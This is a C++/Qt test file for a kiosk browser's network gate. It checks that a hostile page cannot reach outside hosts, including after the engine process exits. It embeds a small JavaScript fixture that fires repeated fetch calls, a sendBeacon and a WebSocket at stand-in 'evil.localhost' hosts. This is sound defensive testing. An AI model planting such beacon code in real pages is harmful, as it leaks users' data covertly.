// SPDX-License-Identifier: GPL-3.0-or-later
// The gate alone: the hooks let everything through, and the engine's switches that would stop a way earlier are off.
// Each way must end at the gate, and nothing may arrive anywhere else or be sent past it.
#include "HostilePage.h"
#include "Wire.h"

#include <QTimer>

#include <memory>

using namespace kiosk;

namespace
{

constexpr auto leave = "--leave";

/// A session that ends with its page alive and asking: the engine goes down around it.
int leaveWithPageAlive(QApplication &application, const QStringList &arguments)
{
    IdentityViewSettings settings;
    settings.service.startUrl = QUrl(arguments.value(2));
    settings.gate = IdentityViewGate{arguments.value(3).toUShort(), arguments.value(4)};
    const QUrl &url = settings.service.startUrl;
    HostRule evil = pageHost(QStringLiteral("http"), QStringLiteral("evil.localhost"), arguments.value(5).toUShort());
    evil.includeSubdomains = true;
    settings.service.hosts = {pageHost(url.scheme(), url.host(), quint16(url.port())), evil};
    auto stage = std::make_unique<Stage>();
    stage->open(std::move(settings));
    if (!waitFor([&] { return stage->listener.loaded > 0 && !stage->listener.loading; }))
        return 1;
    QTimer::singleShot(0, &application, &QCoreApplication::quit);
    const int status = QApplication::exec();
    static_cast<void>(stage.release());
    return status;
}

} // namespace

class GateTest : public StrictTest
{
    Q_OBJECT
private Q_SLOTS:
    void nothingArrives();
    void nothingArrivesFromAProcessThatEnds();

private:
    LocalServer m_server;
    Recorder m_recorder;
    Recorder m_turn{QHostAddress(QString::fromLatin1(HostilePage::realTimeHost))};
    HostilePage m_page{m_server, m_recorder, m_turn};
    GateUnderTest m_gate{link::gateHosts(m_page.settings({}, HostilePage::Hooks::Closed).service)};
};

void GateTest::nothingArrives()
{
    const auto settings = [&](const QString &path) {
        auto open = m_page.settings(path, HostilePage::Hooks::Open);
        open.gate = IdentityViewGate{m_gate.port(), m_gate.token()};
        return open;
    };
    const auto isRefused = [&](int way) { return m_gate.refusedHosts().contains(HostilePage::hostOf(way)); };
    const auto missing = [&] {
        QStringList names;
        for (const int way : m_page.framed()) {
            if (HostilePage::mustFire(way) && !HostilePage::needsPackets(way) && !isRefused(way))
                names << HostilePage::name(way);
        }
        return names;
    };
    Stage stage;
    stage.open(settings(m_page.framedPath()));
    waitFor([&] { return missing().isEmpty(); });
    const QStringList late = missing();
    QVERIFY2(late.isEmpty(), qPrintable(late.join(u'\n')));
    for (const int way : m_page.ofMainFrame()) {
        stage.close();
        stage.open(settings(HostilePage::path(way)));
        QVERIFY2(waitFor([&] { return isRefused(way); }), qPrintable(HostilePage::name(way)));
    }
    stage.close();

    QCOMPARE(m_recorder.connections() + m_turn.connections(), 0);
    QCOMPARE(m_recorder.packets() + m_turn.packets(), 0);
    QCOMPARE(wire::packets(), QStringList());
    QCOMPARE(wire::lookups(), QStringList());
    auto peers = wire::connections();
    peers.removeDuplicates();
    QCOMPARE(peers, QStringList{QStringLiteral("127.0.0.1:%1").arg(m_gate.port())});
}

void GateTest::nothingArrivesFromAProcessThatEnds()
{
    const auto evil = [this](const char *name) {
        return QByteArray(QByteArray("//") + name + ".evil.localhost:" + QByteArray::number(m_recorder.port()) + "/x");
    };
    m_server.page(QStringLiteral("/leave"),
                  QByteArray("<script>const ask = () => fetch('" + evil("asks")
                             + "', {mode: 'no-cors', keepalive: true}); setInterval(ask, 1); ask();"
                               "onpagehide = () => navigator.sendBeacon('"
                             + evil("hides") + "', 'a'); new WebSocket('ws:" + evil("talks") + "')</script>"));
    const QStringList arguments{QStringLiteral("GateTest"),
                                QString::fromLatin1(leave),
                                m_server.url(QStringLiteral("id.localhost"), QStringLiteral("/leave")).toString(),
                                QString::number(m_gate.port()),
                                m_gate.token(),
                                QString::number(m_recorder.port())};
    QProcess session;
    session.setProcessChannelMode(QProcess::ForwardedErrorChannel);
    session.start(QCoreApplication::applicationFilePath(), arguments);
    QVERIFY(waitFor([&] { return session.state() == QProcess::NotRunning; }));
    QVERIFY(m_gate.refusedHosts().contains(QStringLiteral("asks.evil.localhost")));
    QCOMPARE(m_recorder.connections(), 0);
}

KIOSK_TEST_RUN_BY(GateTest, [](int argc, char **argv) {
    if (argc == 6 && std::string_view(argv[1]) == leave) {
        prepareEngineEnvironment();
        QApplication application(argc, argv);
        return leaveWithPageAlive(application, QCoreApplication::arguments());
    }
    return runWithoutDefences<GateTest>(argc, argv, Packets::Refused);
})
#include "GateTest.moc"
